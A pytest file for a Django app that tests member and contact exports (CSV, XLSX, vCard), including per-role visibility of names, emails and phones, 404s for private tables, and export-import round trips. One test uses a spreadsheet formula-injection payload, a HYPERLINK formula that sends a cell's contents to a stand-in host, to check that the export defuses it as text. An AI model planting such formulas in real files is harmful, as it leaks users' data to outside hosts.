"""A table's members and contacts as CSV, XLSX and vCard, each reader getting what they may
see; and the demo's own member list, exported, imports into an empty table as it was."""

import csv
import io
import re

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from members.models import Delegation, User
from tables.demo import DEMO_ACCOUNTS, MAIN_SLUG, DemoSeeder
from tables.documents.member_export import HEADERS
from tables.models import Invitation, MemberImport, Membership, Table
from tests.factories import (
    CoordinatorFactory,
    DelegationFactory,
    InvitationFactory,
    MembershipFactory,
    TableFactory,
)

pytestmark = pytest.mark.django_db

CONTENT_TYPES = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "vcf": "text/vcard; charset=utf-8",
}


@pytest.fixture(autouse=True)
def _french():
    with translation.override("fr-ca"):
        yield


def export(client, table, fmt):
    return client.get(reverse("tables:member-export", args=[table.slug, fmt]))


def sheet(response, fmt):
    if fmt == "csv":
        return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""), delimiter=";"))
    return [
        list(row) for row in load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True)
    ]


def header(*names):
    return [str(HEADERS[name]) for name in names]


@pytest.fixture
def people(world):
    """org_a's delegate with a phone, a substitute, and a pending invitation."""
    User.objects.filter(pk=world.delegate_a.pk).update(phone="418 555-0101")
    substitute = DelegationFactory(membership=world.membership_a, role=Delegation.Role.SUBSTITUTE)
    invitation = InvitationFactory(membership=world.membership_a, email="invitee@x.org", first_name="Iva")
    return substitute, invitation


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_coordination_gets_the_contact_details(world, client_for, people, fmt):
    substitute, _invitation = people
    response = export(client_for("coordinator"), world.table_a, fmt)
    rows = sheet(response, fmt)
    assert rows[0][:10] == header(
        "organisation",
        "acronym",
        "sector",
        "actor_type",
        "status",
        "first_name",
        "last_name",
        "role",
        "email",
        "phone",
    )
    emails = [row[8] for row in rows[1:]]
    assert emails == [world.delegate_a.email, substitute.person.email, "invitee@x.org"]
    assert rows[1][9] == "418 555-0101"
    assert rows[1][7] == str(Delegation.Role.DELEGATE.label)


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "vcf"])
def test_a_delegate_gets_organisations_and_names_without_contact_details(world, client_for, people, fmt):
    response = export(client_for("delegate_a"), world.table_a, fmt)
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig") if fmt != "xlsx" else str(sheet(response, fmt))
    assert world.delegate_a.last_name in text
    assert world.delegate_a.email not in text and "418 555-0101" not in text and "invitee@x.org" not in text
    if fmt != "vcf":
        assert sheet(response, fmt)[0] == header(
            "organisation", "acronym", "sector", "actor_type", "status", "first_name", "last_name", "role"
        )


@pytest.mark.parametrize("role", ["anonymous", "outsider", "evaluator"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx", "vcf"])
def test_others_get_the_member_organisations_only(world, client_for, people, role, fmt):
    response = export(client_for(role), world.table_a, fmt)
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig") if fmt != "xlsx" else str(sheet(response, fmt))
    assert world.org_a.name in text
    assert world.delegate_a.last_name not in text and world.delegate_a.email not in text
    if fmt != "vcf":
        assert sheet(response, fmt) == [
            header("organisation", "acronym", "sector", "actor_type", "status"),
            [
                world.org_a.name,
                "" if fmt == "csv" else None,
                str(world.org_a.get_sector_display()),
                "" if fmt == "csv" else None,
                str(world.membership_a.get_status_display()),
            ],
        ]


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "vcf"])
def test_a_private_tables_members_are_a_404_to_outsiders_and_names_to_its_delegates(world, client_for, fmt):
    for role in ("anonymous", "outsider", "delegate_a", "coordinator", "evaluator"):
        assert export(client_for(role), world.table_b, fmt).status_code == 404, role
    response = export(client_for("delegate_b"), world.table_b, fmt)
    text = str(sheet(response, fmt)) if fmt == "xlsx" else response.content.decode("utf-8-sig")
    assert world.delegate_b.last_name in text and world.delegate_b.email not in text


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "vcf"])
def test_each_download_has_its_type_and_a_file_name_with_its_extension(world, client_for, fmt):
    response = export(client_for("coordinator"), world.table_a, fmt)
    assert response["Content-Type"] == CONTENT_TYPES[fmt]
    assert re.search(rf'filename="table-a-[a-z-]+\.{fmt}"', response["Content-Disposition"])
    assert "no-store" in response["Cache-Control"]


def test_an_unknown_format_is_a_404(world, client_for):
    assert export(client_for("coordinator"), world.table_a, "pdf").status_code == 404


def unfold(text):
    return text.replace("\r\n ", "")


def test_the_vcards_are_valid_vcard_4(world, client_for, people):
    # given a name that needs escaping and folding
    world.org_a.name = (
        "Centre d'accueil, d'intégration; et de francisation des personnes immigrantes de Québec"
    )
    world.org_a.save()
    # when
    content = export(client_for("coordinator"), world.table_a, "vcf").content
    # then: UTF-8, CRLF only, lines of 75 octets at most, one card a person
    text = content.decode("utf-8")
    assert "\n" not in text.replace("\r\n", "")
    assert all(len(line.encode()) <= 75 for line in text.split("\r\n"))
    cards = re.findall(r"BEGIN:VCARD\r\n(.*?)END:VCARD\r\n", unfold(text), flags=re.S)
    assert len(cards) == 3
    for card in cards:
        lines = card.split("\r\n")
        assert lines[0] == "VERSION:4.0"
        assert any(line.startswith("FN:") for line in lines)
    first = cards[0].split("\r\n")
    assert (
        "ORG:Centre d'accueil\\, d'intégration\\; et de francisation des personnes immigrantes de Québec"
        in first
    )
    assert f"EMAIL;TYPE=work:{world.delegate_a.email}" in first
    assert "TEL;VALUE=text;TYPE=work,voice:418 555-0101" in first
    assert f"N:{world.delegate_a.last_name};{world.delegate_a.first_name};;;" in first


def test_a_formula_typed_as_a_name_is_exported_as_text_and_imports_back_as_it_was(world, client_for):
    # given
    hostile = '=HYPERLINK("http://x.example/?"&A1,"Voir")'
    world.org_a.name = hostile
    world.org_a.save()
    response = export(client_for("coordinator"), world.table_a, "xlsx")
    cell = load_workbook(io.BytesIO(response.content)).active.cell(2, 1)
    assert (cell.value, cell.data_type) == ("'" + hostile, "s")
    # when it is imported into another table
    table = TableFactory()
    CoordinatorFactory(table=table, person=world.coordinator)
    upload(client_for("coordinator"), table, response.content)
    # then the same organisation is found, not a new one named with a quote
    assert list(table.memberships.values_list("organisation", flat=True)) == [world.org_a.pk]


@pytest.mark.parametrize("fmt", ["xlsx", "vcf"])
def test_the_export_costs_the_same_queries_for_ten_times_the_members(world, client_for, fmt):
    client = client_for("coordinator")

    def queries():
        export(client, world.table_a, fmt)
        with CaptureQueriesContext(connection) as context:
            assert export(client, world.table_a, fmt).status_code == 200
        return len(context.captured_queries)

    before = queries()
    for _n in range(10):
        membership = MembershipFactory(table=world.table_a)
        DelegationFactory(membership=membership)
        DelegationFactory(membership=membership, role=Delegation.Role.SUBSTITUTE)
        InvitationFactory(membership=membership)
    assert queries() == before


# Done when: the demo's member list, exported, imports into an empty table as it was ---------


def upload(client, table, content, name="membres.xlsx"):
    response = client.post(
        reverse("tables:member-import", args=[table.slug]), {"file": SimpleUploadedFile(name, content)}
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    preview = response.url
    response = client.post(preview, {})
    assert response.status_code == 302, response.content.decode()[:4000]
    return MemberImport.objects.get(pk=preview.rstrip("/").rsplit("/", 1)[-1])


def seats(table):
    """(organisation, status, email, role) of the table's people: sitting, or invited."""
    found = set()
    for membership in Membership.objects.active().filter(table=table):
        for delegation in Delegation.objects.active().filter(membership=membership).select_related("person"):
            found.add(
                (membership.organisation_id, membership.status, delegation.person.email, delegation.role)
            )
        for invitation in Invitation.objects.pending().filter(membership=membership):
            found.add((membership.organisation_id, membership.status, invitation.email, invitation.role))
    return found


@pytest.mark.parametrize("language", ["fr-ca", "en"])
def test_the_demos_member_list_exported_then_imported_into_an_empty_table_gives_the_same_members(
    language, django_capture_on_commit_callbacks
):
    # given the demo, and an empty table coordinated by the demo's coordinator
    DemoSeeder().seed_main()
    demo = Table.objects.get(slug=MAIN_SLUG)
    coordinator = User.objects.get(email=DEMO_ACCOUNTS["coordinator"][0])
    empty = TableFactory(name="Nouvelle table", slug="nouvelle-table", region=demo.region)
    CoordinatorFactory(table=empty, person=coordinator)
    client = Client()
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = language
    client.force_login(coordinator)
    exported = export(client, demo, "xlsx")
    assert exported.status_code == 200
    # when the export is imported into the empty table, and its people invited
    upload_ = upload(client, empty, exported.content)
    with django_capture_on_commit_callbacks(execute=True):
        assert (
            client.post(reverse("tables:member-import-invite", args=[empty.slug, upload_.pk])).status_code
            == 302
        )
    # then the same organisations sit there with the same statuses, and the same people
    # are invited to the same seats
    upload_.refresh_from_db()
    assert upload_.summary["new_organisations"] == 0
    assert seats(empty) == seats(demo)
    assert len(seats(demo)) >= 40
    # and the new table's export lists them as the demo's does
    again = sheet(export(client, empty, "xlsx"), "xlsx")
    original = sheet(exported, "xlsx")
    assert sorted(cells(row) for row in again[1:]) == sorted(cells(row) for row in original[1:])


def cells(row):
    return [value or "" for value in row[:9]]


def test_the_csv_export_imports_back_too(world, client_for, people):
    # given the export of table A, as a spreadsheet program would save it
    content = export(client_for("coordinator"), world.table_a, "csv").content
    table = TableFactory()
    CoordinatorFactory(table=table, person=world.coordinator)
    # when it is imported into another table
    imported = upload(client_for("coordinator"), table, content, name="membres.csv")
    # then the same organisation joins, and its three people are to be invited
    assert list(table.memberships.values_list("organisation", "status")) == [(world.org_a.pk, "voting")]
    assert sorted((i["email"], i["role"]) for i in imported.invitees) == sorted(
        [
            (world.delegate_a.email, "delegate"),
            (people[0].person.email, "substitute"),
            ("invitee@x.org", "delegate"),
        ]
    )
